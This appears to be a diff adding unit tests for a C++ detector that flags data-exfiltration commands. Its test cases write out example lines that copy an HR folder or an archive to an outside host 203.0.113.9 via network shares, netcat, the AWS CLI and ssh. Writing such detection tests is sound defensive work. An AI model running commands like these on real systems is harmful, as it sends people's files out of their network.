@@ -148,5 +148,38 @@ TEST(TransferCommand, ToolsByTheirNames) {
   EXPECT_EQ(transfer_tool("xcopy.exe"), "");
 }
 
+struct SentCase {
+  std::string_view line, tool, destination, file;
+};
+class OtherWaysOut : public testing::TestWithParam<SentCase> {};
+TEST_P(OtherWaysOut, AreTransfers) {
+  const SentCase& one = GetParam();
+  const auto found = transfer_commands(one.line);
+  ASSERT_EQ(found.size(), 1U) << one.line;
+  EXPECT_EQ(found[0].tool, one.tool) << one.line;
+  EXPECT_EQ(found[0].destination, one.destination) << one.line;
+  ASSERT_FALSE(found[0].files.empty()) << one.line;
+  EXPECT_EQ(found[0].files.back(), one.file) << one.line;
+}
+INSTANTIATE_TEST_SUITE_P(
+    All, OtherWaysOut,
+    testing::Values(SentCase{"xcopy C:\\HR \\\\203.0.113.9\\s\\ /s", "copy to a share",
+                             "\\\\203.0.113.9\\s\\", "C:\\HR"},
+                    SentCase{"robocopy C:\\HR \\\\203.0.113.9\\s /e", "copy to a share",
+                             "\\\\203.0.113.9\\s", "C:\\HR"},
+                    SentCase{"nc 203.0.113.9 443 < C:\\PerfLogs\\1.rar", "netcat", "203.0.113.9",
+                             "C:\\PerfLogs\\1.rar"},
+                    SentCase{"aws s3 cp C:\\a.rar s3://b/a --endpoint-url https://203.0.113.9",
+                             "AWS CLI", "https://203.0.113.9", "C:\\a.rar"},
+                    SentCase{"tar czf - C:\\HR | ssh root@203.0.113.9 \"cat > x.tgz\"", "SSH",
+                             "root@203.0.113.9", "C:\\HR"}));
+
+TEST(TransferCommand, WhatComesInOrStaysIsNone) {
+  for (const std::string_view line :
+       {"xcopy C:\\HR \\\\nas01\\s\\ /s", "xcopy C:\\HR \\\\10.0.0.9\\s\\ /s", "nc -l -p 443",
+        "aws s3 cp s3://b/a C:\\a", "type x | ssh root@h uptime", "ssh root@h \"cat > x\""})
+    EXPECT_TRUE(transfer_commands(line).empty()) << line;
+}
+
 }  // namespace
 }  // namespace hozen
